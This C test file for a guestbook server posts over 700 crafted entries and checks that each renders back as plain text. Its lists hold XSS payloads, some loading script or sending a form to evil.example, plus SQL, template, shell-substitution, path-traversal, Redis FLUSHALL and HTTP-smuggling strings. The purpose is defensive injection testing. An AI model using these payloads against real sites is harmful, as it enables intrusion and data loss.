/* Stored entries: whatever a visitor writes comes back as text and as nothing
 * else.
 *
 *  - The page with an entry is read as a browser reads it, roughly: tags,
 *    attributes, text, character references. Its elements have to be those of
 *    a page with a harmless entry, and its text what was posted, to the byte.
 *  - Every string is tried in the entry's name and remarks, and in the form
 *    that a refused post gets back.
 */
#include "tests/harness/harness.h"

#include <ctype.h>

/* ---- a page as a browser sees it ----------------------------------------------------------- */

struct page {
    char *tree; /* its tags, with their attributes, line by line */
    size_t tree_len;
    char *name, *remarks;             /* text in <bdi> and in <p dir="auto"> */
    char *typed_name, *typed_remarks; /* the form's: value="", and text in <textarea> */
};

static bool starts(const char *at, const char *word)
{
    return strncasecmp(at, word, strlen(word)) == 0;
}

/* Decodes the character references that a page may hold; any other is shown as U+FFFD, because a
 * browser may know it. Returns a string of its own. */
static char *decode(const char *from, size_t len)
{
    static const struct {
        const char *name;
        char value;
    } names[] = {{"&amp;", '&'}, {"&lt;", '<'}, {"&gt;", '>'}, {"&quot;", '"'}, {"&apos;", '\''}};
    char *text = calloc(1, 3 * len + 1), *to = text;
    const char *end = from + len;
    while (from < end) {
        size_t i = 0;
        unsigned code = 0;
        int n = 0;
        while (i < 5 && strncmp(from, names[i].name, strlen(names[i].name)) != 0)
            i++;
        if (i < 5) {
            *to++ = names[i].value;
            from += strlen(names[i].name);
        } else if ((sscanf(from, "&#x%x;%n", &code, &n) == 1 ||
                    sscanf(from, "&#%u;%n", &code, &n) == 1) &&
                   n > 0 && code > 0 && code < 128) {
            *to++ = (char)code;
            from += n;
        } else if (*from == '&' && (isalpha((unsigned char)from[1]) || from[1] == '#')) {
            to = stpcpy(to, "\xef\xbf\xbd");
            from++;
        } else {
            *to++ = *from++;
        }
    }
    return text;
}

/* Reads the attributes of a start tag, up to its ">", and writes them to the tree. */
static const char *read_attributes(const char *at, FILE *tree, char **value, bool *automatic)
{
    for (;;) {
        at += strspn(at, " \t\n\f\r/");
        if (!*at || *at == '>')
            return *at ? at + 1 : at;
        size_t len = 1 + strcspn(at + 1, " \t\n\f\r/>=");
        const char *name = at;
        fprintf(tree, " %.*s", (int)len, name);
        at += len + strspn(at + len, " \t\n\f\r");
        if (*at != '=')
            continue;
        at += 1 + strspn(at + 1, " \t\n\f\r");
        char quote[] = {*at, '\0'};
        bool quoted = *at == '"' || *at == '\'';
        at += quoted;
        size_t of_value = strcspn(at, quoted ? quote : " \t\n\f\r>");
        char *text = decode(at, of_value);
        if (len == 5 && starts(name, "value"))
            *value = text;
        else if (len != 8 || !starts(name, "datetime"))
            fprintf(tree, "=%s", text);
        *automatic = *automatic || (len == 3 && starts(name, "dir") && strcmp(text, "auto") == 0);
        at += of_value;
        at += quoted && *at;
    }
}

/* The text behind a tag. In most elements it ends with the next tag, comment or the like; in some
 * only with their own end tag. */
static size_t text_length(const char *at, const char *element)
{
    static const char *const raw[] = {"textarea", "title",    "script",  "style",
                                      "xmp",      "noscript", "noembed", "iframe"};
    const char *end_tag = NULL;
    char closing[32];
    for (size_t i = 0; i < sizeof(raw) / sizeof(raw[0]); i++)
        if (strcasecmp(element, raw[i]) == 0) {
            snprintf(closing, sizeof(closing), "</%s", element);
            end_tag = strcasestr(at, closing);
            return end_tag ? (size_t)(end_tag - at) : strlen(at);
        }
    const char *stop = at;
    while (*stop && !(*stop == '<' && (isalpha((unsigned char)stop[1]) || stop[1] == '/' ||
                                       stop[1] == '!' || stop[1] == '?')))
        stop++;
    return (size_t)(stop - at);
}

static struct page read_page(const char *html)
{
    struct page page = {0};
    FILE *tree = open_memstream(&page.tree, &page.tree_len);
    for (const char *at = html; *at;) {
        char element[32] = "", *value = NULL;
        bool automatic = false;
        if (starts(at, "<!--")) {
            const char *end = strstr(at + 4, "-->");
            fprintf(tree, "<!-- -->\n");
            at = end ? end + 3 : at + strlen(at);
        } else if (*at == '<' && (isalpha((unsigned char)at[1]) || strchr("/!?", at[1]))) {
            size_t len = 1 + strcspn(at + 1, " \t\n\f\r>");
            snprintf(element, sizeof(element), "%.*s", (int)len - 1, at + 1);
            fprintf(tree, "%.*s", (int)len, at);
            at = read_attributes(at + len, tree, &value, &automatic);
            putc('\n', tree);
        } else {
            at++; /* a "<" that is text */
        }
        size_t len = text_length(at, element);
        if (value)
            page.typed_name = value;
        if (strcmp(element, "bdi") == 0)
            page.name = decode(at, len);
        if (strcmp(element, "p") == 0 && automatic)
            page.remarks = decode(at, len);
        if (strcmp(element, "textarea") == 0) /* a first line break is no text there */
            page.typed_remarks = decode(at + (*at == '\n'), len - (*at == '\n'));
        at += len;
    }
    fclose(tree);
    return page;
}

/* ---- what visitors write ------------------------------------------------------------------- */

/* Ends of whatever the text may stand in, */
static const char *const ends[] = {
    "",          "\"",          "'",        "\">", "'>",  "</p>",         "</bdi>",
    "</article", "</textarea>", "</title>", "-->", "]]>", "{{/entries}}", "\\",
};

/* and what might be done then. */
static const char *const deeds[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<b>bold",
    "<a href=\"javascript:alert(1)\">",
    "<iframe srcdoc='<b>'>",
    "<form action=//evil.example>",
    "<input name=guest-name>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example>",
    "<style>*{display:none}</style>",
    "<article><h3><bdi>Eve</bdi>",
    "<!-- ",
    "<![CDATA[",
    "<!doctype html>",
    "<?xml version=\"1.0\"?>",
    "<b",
    "</",
    "<",
    ">",
    "<>",
    "< b>",
    "<b/ onclick=x",
    "<<b>>",
    " onfocus=alert(1) autofocus x=",
    " dir=rtl ",
    "=",
    "&",
    "&lt;b&gt;",
    "&lt",
    "&#60;b&#62;",
    "&#x3c;b&#x3e;",
    "&#60",
    "&amp;",
    "&amp;lt;",
    "&quot;",
    "&copy",
    "&#0;",
    "&;",
    "%3Cb%3E",
    "%253Cb%253E",
    "\\u003cb\\u003e",
    "+ADw-script+AD4-",
    "{{name}}",
    "{{{name}}}",
    "{{#entries}}{{remarks}}{{/entries}}",
    "{{! }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s%s%s%n%x",
    "`id` $(id) ; id",
    "' OR 1=1 --",
    "%0d%0aSet-Cookie: a=b",
    "../../../../etc/passwd",
};

/* What ASCII does not know. */
static const char *const others[] = {
    "Z\xc3\xbcrich",
    "\xd8\xa7\xd9\x84\xd8\xb9\xd8\xb1\xd8\xa8\xd9\x8a\xd8\xa9", /* Arabic */
    "\xd7\xa2\xd7\x91\xd7\xa8\xd7\x99\xd7\xaa abc",             /* Hebrew, then Latin */
    "\xe2\x80\xae"
    "desrever", /* right-to-left override */
    "\xe2\x80\xab\xe2\x80\xaa"
    "never closed",                           /* embeddings */
    "\xe2\x81\xa6\xe2\x81\xa7\xe2\x81\xa8in", /* isolates */
    "\xe2\x81\xa9\xe2\x81\xa9 out",           /* ends of isolates */
    "\xe2\x80\x8f\xe2\x80\x8e.",              /* marks */
    "\xf0\x9f\x98\x80",                       /* a face */
    "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7", /* a family */
    "\xf0\x9f\x87\xa9\xf0\x9f\x87\xaa",                                         /* a flag */
    "e\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81",                        /* accents */
    "\xef\xbc\x9cscript\xef\xbc\x9e",                                           /* wide brackets */
    "\xe2\x80\xb9script\xe2\x80\xba",                                           /* angle quotes */
    "\xca\xbc\xe2\x80\x99\xef\xbc\x82",                                         /* other quotes */
    "\xe2\x80\x8b\xe2\x80\x8c\xe2\x80\x8d.",                                    /* of no width */
    "\xc2\xad\xc2\xa0.", /* soft hyphen, hard space */
    "\xef\xbb\xbf"
    "a byte order mark",
    "\xef\xbf\xbd",             /* the replacement itself */
    "\xc4\xb0\xc5\xbf\xc3\x9f", /* odd cases */
    "\xc2\xa1\xdf\xbf\xe0\xa0\x80\xed\x9f\xbf\xee\x80\x80\xf0\x90\x80\x80\xf4\x8f\xbf\xbf", /* edges
                                                                                             */
    "2026-11-21T02:45:37Z",
    "\"\"''<<>>&&",
    " a  b ",
};

/* What only remarks may hold: line breaks and tabs. */
static const char *const lines[] = {
    "a\nb",
    "a\r\nb",
    "a\rb",
    "a\n\n\nb\n",
    "\nfirst line empty",
    "\r\n\r\ntwo of them",
    "a\tb",
    "2026-11-21T02:45:37Z\nEve\nI was never here",
    "x\n2026-11-21T02:45:37Z\nEve\nI was never here",
    "*1\r\n$8\r\nFLUSHALL\r\n",
    "\r\nRPUSH guestbook:entries forged\r\n",
    "\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    "\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
    "</textarea>\n<script>alert(1)</script>",
    "127.0.0.1 - - [21/Nov/2026:02:45:37 +0000] \"GET / HTTP/1.1\" 200 0\n",
    "--\r\nContent-Disposition: form-data; name=\"guest-name\"\r\n\r\nEve",
};

enum {
    ENDS = sizeof(ends) / sizeof(ends[0]),
    DEEDS = sizeof(deeds) / sizeof(deeds[0]),
    OTHERS = sizeof(others) / sizeof(others[0]),
    LINES = sizeof(lines) / sizeof(lines[0]),
};

/* ---- posting ------------------------------------------------------------------------------- */

static struct client *visitor;

/* Says a request and hears its answer, always on the same connection. */
static const struct answer *converse(const char *request)
{
    if (!visitor)
        visitor = dial();
    say(visitor, request);
    return hear(visitor);
}

static const struct answer *view(void)
{
    return converse("GET /guestbook HTTP/1.1\r\nHost: test\r\n\r\n");
}

static void escape(FILE *out, const char *text)
{
    for (; *text; text++)
        fprintf(out, isalnum((unsigned char)*text) ? "%c" : "%%%02X", (unsigned char)*text);
}

static const struct answer *post_entry(const char *name, const char *remarks)
{
    static char *form, *request;
    size_t len;
    free(form);
    free(request);
    FILE *out = open_memstream(&form, &len);
    fputs("guest-name=", out);
    escape(out, name);
    fputs("&guest-remarks=", out);
    escape(out, remarks);
    fclose(out);
    check(asprintf(&request,
                   "POST /guestbook HTTP/1.1\r\nHost: test\r\nContent-Length: %zu\r\nContent-Type: "
                   "application/x-www-form-urlencoded\r\n\r\n%s",
                   len, form) > 0,
          "no memory");
    return converse(request);
}

/* With LF for each line break, as it is stored. */
static const char *with_unified_breaks(const char *text)
{
    static char unified[4096];
    char *to = unified;
    for (; *text; text++) {
        if (*text == '\r' && text[1] == '\n')
            continue;
        *to++ = *text == '\r' ? '\n' : *text;
    }
    *to = '\0';
    return unified;
}

static bool same(const char *a, const char *b)
{
    return a && b && strcmp(a, b) == 0;
}

static void release(struct page *page)
{
    free(page->tree);
    free(page->name);
    free(page->remarks);
    free(page->typed_name);
    free(page->typed_remarks);
}

/* ---- the cases ----------------------------------------------------------------------------- */

static struct page harmless, harmless_form;

static void learn_what_is_harmless(void)
{
    check(post_entry("Ada", "hello")->status == 303, "status %d", visitor->answer.status);
    harmless = read_page(view()->body);
    check(same(harmless.name, "Ada") && same(harmless.remarks, "hello"), "%s",
          visitor->answer.body);
    check(post_entry("Ada", "")->status == 400, "status %d", visitor->answer.status);
    harmless_form = read_page(visitor->answer.body);
    check(same(harmless_form.typed_name, "Ada") && same(harmless_form.typed_remarks, ""), "%s",
          visitor->answer.body);
}

static void check_entry_is_text(const char *name, const char *remarks)
{
    redis("DEL guestbook:entries");
    check(post_entry(name, remarks)->status == 303, "\"%s\" \"%s\": status %d", name, remarks,
          visitor->answer.status);
    check(same(field(&visitor->answer, "Location"), "/guestbook"), "%s",
          field(&visitor->answer, "Location"));
    struct page page = read_page(view()->body);
    check(same(page.tree, harmless.tree), "\"%s\" \"%s\" made\n%s", name, remarks,
          visitor->answer.body);
    check(same(page.name, name), "the name \"%s\" came back as \"%s\"", name, page.name);
    check(same(page.remarks, with_unified_breaks(remarks)), "\"%s\" came back as \"%s\"", remarks,
          page.remarks);
    release(&page);
    check(redis_number("LLEN guestbook:entries") == 1, "\"%s\" \"%s\": not one entry", name,
          remarks);
}

/* Refused for another reason, the post comes back in the form, to be mended. */
static void check_form_holds_text(const char *name, const char *remarks)
{
    check(post_entry(name, remarks)->status == 400, "status %d", visitor->answer.status);
    struct page page = read_page(visitor->answer.body);
    check(same(page.tree, harmless_form.tree), "\"%s\" \"%s\" made\n%s", name, remarks,
          visitor->answer.body);
    check(same(page.typed_name, name), "the name \"%s\" came back as \"%s\"", name,
          page.typed_name);
    check(same(page.typed_remarks, with_unified_breaks(remarks)), "\"%s\" came back as \"%s\"",
          remarks, page.typed_remarks);
    release(&page);
}

/* Returns 1. */
static int check_everywhere(const char *text)
{
    check_entry_is_text(text, text);
    check_form_holds_text(text, "");
    check_form_holds_text("", text);
    return 1;
}

EVERY_SERVER(seven_hundred_injections_come_back_as_text_and_nothing_else)
{
    int tried = 0;
    start_redis();
    start_server();
    learn_what_is_harmless();
    for (size_t i = 0; i < DEEDS; i++)
        for (size_t j = 0; j < ENDS; j++) {
            char text[128];
            snprintf(text, sizeof(text), "%s%s", ends[j], deeds[i]);
            tried += check_everywhere(text);
        }
    for (size_t i = 0; i < OTHERS; i++)
        tried += check_everywhere(others[i]);
    check(tried > 700, "only %d", tried);
}

EVERY_SERVER(line_breaks_in_remarks_are_kept_and_forge_no_entry)
{
    start_redis();
    start_server();
    learn_what_is_harmless();
    for (size_t i = 0; i < LINES; i++) {
        check_entry_is_text("Ada", lines[i]);
        check_form_holds_text("", lines[i]);
    }
}

/* An end and a deed, split between two entries and between name and remarks, do not meet. */
EVERY_SERVER(twenty_entries_cannot_do_together_what_one_cannot)
{
    start_redis();
    start_server();
    for (int i = 0; i < 20; i++)
        check(post_entry("Ada", "hello")->status == 303, "not stored");
    struct page twenty = read_page(view()->body);
    redis("DEL guestbook:entries");
    for (int i = 0; i < 20; i++)
        check(post_entry(ends[(i + 1) % ENDS][0] ? ends[(i + 1) % ENDS] : "<", deeds[i])->status ==
                  303,
              "not stored");
    struct page page = read_page(view()->body);
    check(same(page.tree, twenty.tree), "%s", visitor->answer.body);
    release(&twenty);
    release(&page);
}

/* ---- what is not text ---------------------------------------------------------------------- */

static void check_refused(const char *name, const char *remarks)
{
    check(post_entry(name, remarks)->status == 400, "\"%s\" \"%s\": status %d", name, remarks,
          visitor->answer.status);
    struct page page = read_page(visitor->answer.body);
    check(same(page.tree, harmless_form.tree), "%s", visitor->answer.body);
    release(&page);
    bool replaces = !server_is_ours(); /* it may show U+FFFD, and what was text beside it */
    for (const unsigned char *at = (const unsigned char *)visitor->answer.body; *at; at++)
        check((*at >= ' ' && *at < 127) || *at == '\n' || (replaces && *at > 127),
              "byte %02x is shown", *at);
}

EVERY_SERVER(what_is_not_text_is_refused)
{
    static const char *const broken[] = {
        "a\x80",                    /* nothing to continue */
        "\xe2\x82",                 /* nothing follows */
        "\xc0\xbc",                 /* overlong */
        "\xed\xa0\xbd\xed\xb8\x80", /* halves of a pair */
        "\xf4\x90\x80\x80",         /* above the last character */
        "\xff\xfe<\xff",
        "Z\xfcrich", /* Latin-1 */
        "\x93quoted\x94",
        "\x1b[31mred", /* control characters */
        "\xc2\x9b",
    };
    start_redis();
    start_server();
    learn_what_is_harmless();
    for (size_t i = 0; i < sizeof(broken) / sizeof(broken[0]); i++) {
        check_refused(broken[i], "hello");
        check_refused("Ada", broken[i]);
    }
    check(redis_number("LLEN guestbook:entries") == 1, "one of them was stored");
}
